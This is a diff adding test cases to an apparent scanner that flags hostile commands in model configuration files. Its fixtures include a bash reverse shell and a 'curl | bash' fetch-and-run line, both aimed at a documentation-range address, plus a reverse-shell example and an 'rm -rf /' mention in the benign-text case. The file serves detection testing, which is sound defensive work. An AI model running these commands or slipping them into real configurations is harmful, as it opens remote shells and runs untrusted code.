@@ -797,6 +797,21 @@ CASES = {
         {**PROMPT_OF_LANGCHAIN, "kwargs": {"openai_api_key": {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}}},
         "chain.json",
     ),
+    "attack_command_in_a_note": case(
+        {**CONFIG, "note": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, "config.json", Verdict.REVIEW
+    ),
+    "attack_command_in_a_setting": case(
+        {"peft_type": "LORA", "setup": "curl -s http://203.0.113.9/x.sh | bash"}, "adapter_config.json", Verdict.REVIEW
+    ),
+    "benign_words_about_attacks": case(
+        {
+            **CONFIG,
+            "description": "This model finds reverse shells such as bash -i >& /dev/tcp/10.0.0.1/8080 0>&1 in logs.",
+            "install": "curl -LsSf https://astral.sh/uv/install.sh | sh",
+            "system_prompt": "You are a careful assistant. Never run rm -rf / on the host.",
+        },
+        "config.json",
+    ),
     "target_in_commented_json": Case(
         b'{"a": 1,\n # comment\n "_target_": "os.system"}'.__bytes__, "net.json", Verdict.MALICIOUS
     ),
